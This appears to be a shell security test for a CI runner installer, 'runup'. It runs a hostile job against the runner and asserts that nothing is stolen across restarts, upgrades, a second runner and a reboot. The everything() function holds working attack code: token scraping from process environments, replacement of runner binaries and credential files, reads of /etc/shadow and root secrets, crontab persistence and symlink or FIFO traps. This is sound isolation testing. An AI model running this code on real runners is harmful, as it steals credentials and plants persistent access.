# One hostile job tries everything during the life of a runner, and gets nothing.

# All attacks. A process that stays plants everything again for as long as it lives.
everything() {
    steer
    liar /opt/actions-runner
    typist
    cat <<'EVERYTHING'
cat >$loot/thief <<'THIEF'
#!/bin/bash
(umask 0; { id -u; env; printf "%s\n" "$@"; } >>/srv/loot/given)
exit 1
THIEF
chmod 755 $loot/thief
cat >$loot/daemon.sh <<'DAEMON'
shopt -s nullglob
perl /srv/loot/typist.pl
while :; do
    cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -a "INPUT_TOKEN=." >>/srv/loot/seen
    for dir in /opt/* /opt/.[!.]* /var/lib/runup/*; do
        for program in config.sh env.sh svc.sh bin/Runner.Listener .runner .credentials .env; do
            [[ -e $dir/$program ]] || continue
            cmp -s /srv/loot/thief $dir/$program && continue
            cp /srv/loot/thief $dir/.new && mv -f $dir/.new $dir/$program && echo $dir/$program >>/srv/loot/won
        done
    done 2>/dev/null
    for file in /root/secret /etc/runup/token /etc/shadow /var/lib/runup/*.json; do cat $file >>/srv/loot/files 2>/dev/null; done
    sleep 0.02
done
DAEMON
if ! pgrep --full daemon.sh >/dev/null; then
    escape 'exec bash /srv/loot/daemon.sh'
    hide bash $loot/daemon.sh
fi
echo '* * * * * bash /srv/loot/daemon.sh' | crontab -
# What root may read in the two directories of the job.
rm -f $tree/_diag/*_20991231-235959-utc.log $work/fifo $work/root
mkfifo $tree/_diag/Runner_20991231-235959-utc.log $work/fifo
ln -s /root/secret $tree/_diag/Worker_20991231-235959-utc.log
ln -s /root $work/root
mv $work $tree/away && ln -s /etc $work
echo over
EVERYTHING
}

nothing_happened() {
    absent $loot/ran $loot/received $loot/given $loot/won $loot/lied $loot/had-a-terminal
    [[ ! -s $root$loot/files ]] || fail "a file of root was read"
    nothing_was_taken
    victim_lives
}

scenario_canary() {
    local found
    with_service
    install --mode=600 /dev/stdin "$root/root/secret" <<<"only for root: $RANDOM$RANDOM"
    victim online
    hostile "$(everything)"
    job_says over
    inside systemctl restart --no-block $unit
    within 60 sessions_or_steered 2
    nothing_happened
    # Root runs status, converges and changes the registration, in a terminal.
    typed_by_root "runup status; runup install; runup install --labels canary --work elsewhere" 0
    within 60 own_online
    nothing_happened
    hostile "$(everything)"
    # A newer runner.
    if knows_upgrade; then
        control POST versions '{"version":"2.340.0"}'
        attempt runup upgrade
        succeeded
        within 60 own_online
        same 2.340.0 "$(state '[.runners[] | select(.name != "victim")][0].version')" "the version after the upgrade"
        nothing_happened
    fi
    hostile "$(everything)"
    # A second runner next to it, and a reboot.
    exits 0 runup install --dir /opt/second --name second
    within 60 own_online 2
    reboot
    within 60 own_online 2
    hostile "$(everything)" "$(state '[.runners[] | select(.name != "victim" and .name != "second")][0].name')"
    nothing_happened
    found=$(find "$root$tree" -user "$(uid_of "$(inside stat --format=%U $tree/_diag)")" -printf '%P\n' | sed 's|/.*||' | sort --unique | paste --serial --delimiters=' ')
    note "find TREE -user RUNNER: $found"
    same "_diag elsewhere" "$found" "what belongs to the runner's user in its tree"
    typed_by_root "runup remove --dir /opt/actions-runner" 1
    nothing_happened
    exits 0 runup remove --dir /opt/second
    same 1 "$(runners)" "the number of runners, the victim's"
    absent $tree /opt/second
    nothing_happened
}
